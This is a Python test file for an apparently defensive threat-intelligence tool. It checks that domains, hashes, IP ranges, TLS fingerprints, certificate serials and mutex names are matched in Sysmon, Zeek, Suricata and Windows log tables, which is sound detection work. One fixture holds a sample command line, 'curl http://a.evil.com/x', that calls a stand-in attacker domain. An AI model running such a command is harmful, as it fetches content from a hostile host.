"""Fields that share one column, and what certificates, fingerprints of TLS and mutexes are found by."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pyarrow as pa
import pytest

from match_samples import table_of
from vizsla.engine import Engine
from vizsla.engines import connect
from vizsla.intel.pattern import parse
from vizsla.intel.patterns import evaluate
from vizsla.intel.search import search
from vizsla.intel.sightings import sightings
from vizsla.lake import Lake

NOW = datetime(2026, 11, 22, tzinfo=UTC)
MD5 = "0cc175b9c0f1b6a831c399e269772661"
SHA1 = "86f7e437faa5a7fce15d1ddcb9eaeaea377667b8"
JA4 = "t13d1516h2_8daaf6152771_02713d6af862"


def append(lake: Lake, first: int, table: str, rows: list[dict[str, object]]) -> None:
    n = len(rows)
    columns = {
        name: pa.array([row.get(name) for row in rows], pa.string())
        for name in dict.fromkeys(name for row in rows for name in row)
        if name != "_extra"
    }
    extra = [list(row["_extra"].items()) if "_extra" in row else None for row in rows]  # type: ignore[attr-defined]
    if any(extra):
        columns["_extra"] = pa.array(extra, pa.map_(pa.string(), pa.string()))
    lake.append({table: [pa.record_batch({
        "_id": pa.array([f"{first + i:032x}" for i in range(n)]),
        "_time": pa.array([NOW] * n, pa.timestamp("us", tz="UTC")), "_host": pa.array(["pc1"] * n),
        "_origin": pa.array(["x"] * n), "_day": pa.array(["2026-11-22"] * n), **columns,
    })]})  # fmt: skip


def met(lake: Lake) -> set[tuple[int, str, str, str | None]]:
    rows = sightings(lake).to_pylist()
    return {(int(row["_id"], 16), row["field"], row["value"], row["within"]) for row in rows}


RARE = [
    {"EventID": "1", "_extra": {"RemoteAddress": "10.3.1.1", "Odd": "x"}},
    {"EventID": "1"},
    {"EventID": "1", "_extra": {"RareCommandLine": "curl http://a.evil.com/x", "RareMD5": MD5.upper()}},
    {"EventID": "1", "_extra": {"Odd": "a.evil.com", "RareIpv6Address": "2001:DB8::1"}},
]
WANTED = [("cidr", "10.3.0.0/16"), ("domain", "evil.com"), ("md5", MD5), ("ipv6", "2001:db8::1")]
FOUND = {
    (0, "RemoteAddress", "10.3.1.1", None),
    (2, "RareCommandLine", "curl http://a.evil.com/x", "a.evil.com"),
    (2, "RareMD5", MD5.upper(), None),
    (3, "RareIpv6Address", "2001:DB8::1", None),
}


def test_rare_fields_are_looked_at(tmp_path: Path, each_engine: Engine) -> None:
    """New events against indicators; a field holds what a column of its name would."""
    lake = Lake.open(tmp_path, create=True)
    append(lake, 0, "windows_sysmon", RARE)
    search(each_engine, lake, table_of(WANTED), now=NOW)
    assert {(row, field, value) for row, field, value, _ in met(lake)} == {one[:3] for one in FOUND}


def test_new_indicators_in_old_rare_fields(tmp_path: Path) -> None:
    lake = Lake.open(tmp_path, create=True)
    append(lake, 0, "windows_sysmon", RARE)
    with connect() as engine:
        search(engine, lake, table_of([("domain", "nowhere.com")]), now=NOW)
        done = search(engine, lake, table_of(WANTED), now=NOW)
        assert (done.fresh, done.events, done.sightings) == (4, 0, 4)
        append(lake, 10, "windows_sysmon", [{"EventID": "1", "_extra": {"RareMD5": MD5}}])
        assert search(engine, lake, table_of(WANTED), now=NOW).sightings == 1
    assert (10, "RareMD5", MD5, None) in met(lake)


TLS = {"version": "TLSv13", "ja3": MD5, "ja3s": MD5, "ja4": JA4, "server_name": "a.com"}
CASES = [
    ("zeek_ssl", TLS, f"[x-vizsla:ja3 = '{MD5}' AND domain-name:value = 'a.com']", True),
    ("zeek_ssl", TLS, f"[x-vizsla:ja4 = '{JA4.upper()}' AND domain-name:value = 'a.com']", True),
    ("zeek_ssl", TLS, "[x-vizsla:ja4 LIKE 't13d%' AND domain-name:value = 'b.com']", False),
    ("zeek_x509", {"certificate.serial": "0AFF12", "certificate.issuer": "CN=x"},
     "[x509-certificate:serial_number = '0a:ff:12' AND x509-certificate:issuer = 'CN=x']", True),
    ("suricata_tls", {"tls.serial": "0A:FF:12", "tls.fingerprint": ":".join(SHA1[i : i + 2] for i in range(0, 40, 2))},
     f"[x509-certificate:hashes.'SHA-1' = '{SHA1}' AND x509-certificate:serial_number = '0AFF12']", True),
    ("windows_security",
     {"EventID": "4656", "ObjectType": "Mutant", "ObjectName": r"\BaseNamedObjects\Evil_7", "ProcessName": "x"},
     "[mutex:name = 'Evil_7' AND process:name = 'x']", False),
    ("windows_security",
     {"EventID": "4656", "ObjectType": "Mutant", "ObjectName": r"\Sessions\1\BaseNamedObjects\Evil_7"},
     "[mutex:name LIKE '%Evil_7' OR mutex:name = 'no']", True),
    ("windows_security",
     {"EventID": "4656", "ObjectType": "File", "ObjectName": r"\Sessions\1\BaseNamedObjects\Evil_7"},
     "[mutex:name = 'Evil_7' OR mutex:name = 'no']", False),
]  # fmt: skip


@pytest.mark.parametrize(("table", "row", "pattern", "holds"), CASES)
def test_fields_of_patterns(tmp_path: Path, table: str, row: dict[str, object], pattern: str, holds: bool) -> None:
    lake = Lake.open(tmp_path, create=True)
    append(lake, 0, table, [row, dict.fromkeys(row, "other")])
    with connect() as engine:
        done = evaluate(engine, [lake.scan(table)], {"p": parse(pattern)})
    assert not done.unable
    assert bool(done.hits) is holds


@pytest.mark.parametrize(
    ("table", "column", "type", "value", "given"),
    [
        ("zeek_ssl", "ja4", "ja4", JA4, JA4),
        ("zeek_x509", "certificate.serial", "certificate_serial", "0aff12", "0AFF12"),
        (
            "suricata_tls",
            "tls.fingerprint",
            "certificate_fingerprint",
            SHA1,
            ":".join(SHA1[i : i + 2] for i in range(0, 40, 2)),
        ),
        ("windows_security", "ObjectName", "mutex", "evil_7", r"\Sessions\1\BaseNamedObjects\Evil_7"),
    ],
)
def test_single_values(tmp_path: Path, table: str, column: str, type: str, value: str, given: str) -> None:
    from vizsla.intel.normal import normal

    lake = Lake.open(tmp_path, create=True)
    append(lake, 0, table, [{column: given}])
    with connect() as engine:
        assert search(engine, lake, table_of([(type, normal(type, value))]), now=NOW).sightings == 1
